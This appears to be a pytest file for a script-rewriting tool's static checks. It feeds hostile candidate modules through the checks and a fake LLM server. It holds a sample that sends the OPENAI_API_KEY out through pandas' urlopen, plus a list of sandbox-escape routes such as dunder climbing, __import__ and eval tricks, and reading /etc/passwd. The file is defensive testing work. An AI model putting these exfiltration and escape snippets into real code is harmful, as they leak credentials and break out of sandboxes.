"""Static checks against hostile candidate modules: every route to the system the checks can
see is refused with its line, and a module an LLM proposed that steals never comes out valid
or written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from lester.cli import main
from lester.rewrite.analysis import analyze_path
from lester.rewrite.static_checks import check_module, errors
from tests.openai_server import OpenAIServer
from tests.test_rewrite_llm import KEY, KEY_ENV, case, settings  # noqa: F401 - case is a fixture

DATA = Path(__file__).parent / "data" / "rewrite"
GOOD = (DATA / "candidates" / "orders_good.py").read_text()

# the attack that was seen: os reached through pandas, the key sent with pandas' urlopen
SEEN = '''
def _report():
    env = pd.io.common.os.environ
    pd.io.common.urlopen("http://127.0.0.1:9/?k=" + env.get("OPENAI_API_KEY", ""))
'''

ROUTES = {
    "os through pandas": "x = pd.io.common.os.getcwd()",
    "urlopen through pandas": "pd.io.common.urlopen('http://127.0.0.1:9')",
    "getattr with a string": "getattr(pd, 'io')",
    "getattr built from parts": "g = getattr; g(np, 'ctypes' + 'lib')",
    "__import__": "m = __import__('o' + 's')",
    "dunder climb": "k = ().__class__.__bases__[0].__subclasses__()",
    "dunder in a string": "from operator import attrgetter as a; a('__globals__')",
    "globals": "globals()['x'] = 1",
    "vars": "v = vars(np)",
    "private attribute": "pd._libs",
    "ctypeslib": "np.ctypeslib.load_library('libc', '/lib')",
    "from import of a system name": "from pandas.io.common import urlopen",
    "from import of os": "from numpy import os",
    "lester commands": "lt.forget('customers', ids=['1'])",
    "lester submodule": "import lester.ivm",
    "from lester import a command": "from lester import redact",
    "eval": "eval('1')",
    "pandas eval": "pd.eval('1 + 1')",
    "open": "open('/etc/passwd').read()",
    "a read of another file": "PATH = None\ndef other():\n    return lt.read_csv(PATH)",
    "sys modules": "import numpy\nnumpy.sys.modules",
}


def _with(code: str) -> str:
    return GOOD.replace("import lester as lt\n", "import lester as lt\nimport numpy as np\nimport pandas as pd\n"
                        + code + "\n", 1)


@pytest.fixture(scope="module")
def analysis():
    return analyze_path(DATA / "orders" / "messy.py")


def test_the_right_module_passes(analysis):
    assert errors(check_module(_with(""), analysis)) == []


def test_the_seen_theft_is_refused_with_its_lines(analysis):
    found = errors(check_module(_with(SEEN), analysis))
    lines = {issue.line for issue in found}
    text = " ".join(str(issue) for issue in found)
    assert "reaches .os" in text and "reaches .urlopen" in text and "reaches .environ" in text
    start = _with(SEEN).splitlines().index("def _report():") + 1
    assert {start + 1, start + 2} <= lines


@pytest.mark.parametrize("route", sorted(ROUTES))
def test_every_route_to_the_system_is_refused(analysis, route):
    found = errors(check_module(_with(ROUTES[route]), analysis))
    assert found, f"{route} passed the static checks"
    assert all(issue.line for issue in found)


def test_a_read_inside_dataprep_of_its_own_parameter_passes(analysis):
    assert errors(check_module(GOOD, analysis)) == []
    bad = GOOD.replace('lt.read_csv(orders, key="order_id")', 'lt.read_csv("data/" + "orders.csv", key="order_id")')
    assert errors(check_module(bad, analysis))


def test_the_rules_engine_output_is_trusted_structure_only(analysis):
    # the compiler's own output may keep the script's code (an opaque stage), checked by structure
    assert errors(check_module(_with("import os\nx = os.getcwd()"), analysis, trusted=True)) == []


def test_an_llm_answer_that_steals_is_never_valid_nor_written(case):
    folder = case
    settings(case)
    stealing = GOOD.replace("def dataprep(", "import pandas as pd\n" + SEEN + "\n\ndef dataprep(", 1).replace(
        "    customers = lt.read_csv(", "    _report()\n    customers = lt.read_csv(", 1)
    answer = f"```python\n{stealing}```\n"
    with OpenAIServer([answer, answer, answer], api_key=KEY) as server:
        outcome = CliRunner().invoke(main, [
            "rewrite", "messy.py", "--engine", "llm", "--model", "test-model", "--base-url", server.base_url,
            "--api-key-env", KEY_ENV, "--report", "report.json", "--timeout", "30", "--max-repairs", "1",
        ], catch_exceptions=False)
    report = json.loads((folder / "report.json").read_text())
    assert outcome.exit_code != 0 and report["status"] != "valid"
    assert any("reaches .urlopen" in " ".join(a.get("problems") or []) + a.get("detail", "")
               for a in report["attempts"])
    for written in folder.glob("*pipeline*.py"):
        assert "urlopen" not in written.read_text()
